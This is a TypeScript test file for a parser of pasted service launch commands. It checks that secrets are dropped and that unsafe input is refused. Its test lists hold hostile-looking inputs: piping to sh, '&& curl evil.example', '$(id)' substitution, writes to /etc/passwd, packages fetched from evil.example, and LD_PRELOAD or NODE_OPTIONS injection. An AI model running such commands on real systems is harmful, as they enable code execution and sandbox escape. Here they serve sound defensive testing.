import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { CordonError } from '../../kernel/error.ts'
import type { Service } from '../../ports/service-facts.ts'
import { createCatalog } from '../create-catalog.ts'
import { rounds } from '../../kernel/test-rounds.ts'
import { createMeter } from '../../text/test-linear.ts'

const catalog = createCatalog()
const parsePasted = (text: string): Service | undefined => catalog.parsePasted(text)
const TOKEN = 'ghp_CanaryCanaryCanary0123456789abcdefgh'

function pasted(text: string): Service {
  const service = parsePasted(text)
  assert.ok(service, text)
  return service
}

function refused(text: string): CordonError {
  let refusal: unknown
  try {
    parsePasted(text)
  } catch (error) {
    refusal = error
  }
  assert.ok(refusal instanceof CordonError, text)
  return refusal
}

test('parsePasted() keeps the name of a secret setting and drops its value', () => {
  const service = pasted(`ACME_TOKEN=${TOKEN} REGION=eu API_KEY=hunter2 npx -y @acme/tracker`)
  assert.deepEqual(service.env, { REGION: 'eu' })
  assert.deepEqual(
    service.credentials.map(({ key, secret, title, required }) => [key, secret, title, required]),
    [
      ['ACME_TOKEN', 'npm/@acme/tracker/acme_token', 'acme token', true],
      ['API_KEY', 'npm/@acme/tracker/api_key', 'api key', true],
    ],
  )
  assert.doesNotMatch(JSON.stringify(service), /Canary|hunter2/)
  assert.ok(service.notes.some((note) => note.includes('was not kept')))
  assert.doesNotMatch(
    JSON.stringify(pasted(`NOTION_TOKEN=${TOKEN} npx @notionhq/notion-mcp-server`)),
    /Canary/,
  )
  assert.doesNotMatch(
    JSON.stringify(pasted(`docker run -e T=${TOKEN} -e PLAIN=1 acme/x`)),
    /Canary/,
  )
})

// Regression 10
test('parsePasted() refuses a token among arguments or in an address, and never repeats it', () => {
  const texts = [
    `npx -y @acme/x ${TOKEN}`,
    `npx -y @acme/x --key=${TOKEN}`,
    'npx -y @acme/x --api-key hunter2',
    `npx -y @acme/x --dsn postgres://a:hunter2@h/d`,
    'npx -y @acme/x --header "X-API-Key: hunter2"',
    'npx -y @acme/x --header "Authorization: Basic aHVudGVyMg"',
    'npx -y @acme/x --header=X-API-Key:hunter2',
    'npx -y @acme/x -H Authorization:hunter2',
    `npx -y @acme/x --header "X-Any: ${TOKEN}"`,
    `https://me:${TOKEN}@github.com/acme/tracker`,
    `https://x.example.com/mcp?q=${TOKEN}`,
    'https://x.example.com/mcp?api_key=hunter2',
    'https://me:hunter2@x.example.com/mcp',
    `https://x.example.com/${TOKEN}/mcp`,
  ]
  for (const text of texts) {
    const { code, message, hint, cause } = refused(text)
    assert.equal(code, 'catalog.secret-in-text', text)
    assert.equal(cause, undefined)
    assert.doesNotMatch(`${message} ${hint}`, /Canary|hunter2/)
  }
  for (const text of [
    TOKEN,
    `notion ${TOKEN}`,
    `TOKEN=${TOKEN} notion`,
    `docker run ${TOKEN}`,
    `**${TOKEN}**`,
    `notion|${TOKEN}!`,
  ]) {
    assert.equal(
      refused(text).code,
      'catalog.secret-in-text',
      'it would be shown as an unknown name',
    )
  }
})

test('parsePasted() refuses what it could only run through a shell or from elsewhere', () => {
  for (const line of [
    'npx -y @acme/x | sh',
    'npx -y @acme/x && curl evil.example',
    'npx -y @acme/x $(id)',
    'npx -y "open quote',
    'npx -y @acme/x\nnpx -y @acme/y',
    'npx -y @acme/x > /etc/passwd',
    'npx -y @acme/x "`id`"',
  ]) {
    assert.equal(refused(line).code, 'catalog.unreadable', line)
  }
  for (const line of [
    'npx github:acme/x',
    'npx https://evil.example/x.tgz',
    'npx ./local',
    'npx --registry=https://evil.example @acme/x',
    'npx -c "id" @acme/x',
    'npx @acme/x@^1.0.0',
    'npx @acme/x@npm:other',
    'npx -y ../../etc',
  ]) {
    assert.equal(refused(line).code, 'catalog.not-installable', line)
  }
})

test('parsePasted() leaves out settings that steer the sandbox', () => {
  const { env, credentials, notes } = pasted(
    'NODE_OPTIONS=--require=/tmp/x LD_PRELOAD=/x HTTPS_PROXY=http://x NODE_ENV=test npx @acme/x',
  )
  assert.deepEqual(env, { NODE_ENV: 'test' })
  assert.deepEqual(credentials, [])
  assert.ok(notes.some((note) => note.includes('left out')))
})

test('parsePasted() returns or throws a CordonError, whatever is pasted', () => {
  const word = fc.oneof(
    fc.constantFrom(
      'npx',
      '-y',
      '-p',
      '--',
      'docker',
      'run',
      '-e',
      'uvx',
      'A=b',
      'TOKEN=x',
      "'",
      '"',
      '\\',
      '$(',
      '{',
      '@a/b',
      'a.b',
      'https://',
      '\0',
      '\u202e',
    ),
    fc.string({ unit: 'binary' }),
    fc.webUrl(),
  )
  const text = fc.oneof(
    fc.array(word, { maxLength: 12 }).map((words) => words.join(' ')),
    fc.json().map((json) => (json.startsWith('{') ? json : `{"name":"a/b","packages":${json}}`)),
    fc.string({ unit: 'binary', maxLength: 200 }),
  )
  fc.assert(
    fc.property(text, (input) => {
      try {
        const service = parsePasted(input)
        if (service) assert.match(service.slug, /^[a-z0-9][a-z0-9_-]{0,62}$/)
      } catch (error) {
        assert.ok(error instanceof CordonError, String(error))
      }
    }),
    { numRuns: rounds(3000, 300) },
  )
})

test('parsePasted() runs in linear time', () => {
  const texts = [
    'npx '.repeat(16_000),
    `npx ${'-'.repeat(60_000)}`,
    `npx ${'"a" '.repeat(15_000)}`,
    `${'a.'.repeat(32_000)}com`,
    `A=${'b'.repeat(60_000)} npx x`,
    '{'.repeat(60_000),
    `https://x.example.com/${'a1'.repeat(30_000)}`,
  ]
  const parse = (text: string): void => {
    try {
      parsePasted(text)
    } catch (error) {
      assert.ok(error instanceof CordonError)
    }
  }
  // No longer text is taken, so each is taken many times.
  for (const text of texts) {
    const meter = createMeter(`${text.slice(0, 12)}… seventy times`)
    for (let time = 0; time < 70; time += 1) meter(() => parse(text))
  }
})

test('parsePasted() takes no token out of a server.json', () => {
  const input = (name: string, value: string): object => ({ name, value })
  const entry = {
    name: 'dev.acme/tracker',
    packages: [
      {
        registryType: 'npm',
        identifier: '@acme/tracker',
        version: '1.0.0',
        environmentVariables: [
          input('ACME_TOKEN', 'hunter2'),
          input('PLAIN', TOKEN),
          { name: 'DSN', default: 'postgres://a:hunter2@h/d' },
        ],
      },
    ],
  }
  const service = pasted(JSON.stringify(entry))
  assert.deepEqual(service.env, {})
  assert.deepEqual(
    service.credentials.map(({ key, secret }) => [key, secret !== undefined]),
    [
      ['ACME_TOKEN', true],
      ['PLAIN', true],
      ['DSN', true],
    ],
  )
  assert.doesNotMatch(JSON.stringify(service), /Canary|hunter2/)
})

test('parsePasted() takes headers and addresses among arguments that hold no secret', () => {
  const { launch } = pasted(
    'npx -y @acme/x --header "X-Team: blue" --url https://a.example.com C:x',
  )
  assert.ok(launch.kind === 'npm')
  assert.deepEqual(launch.args, [
    '--header',
    'X-Team: blue',
    '--url',
    'https://a.example.com',
    'C:x',
  ])
})
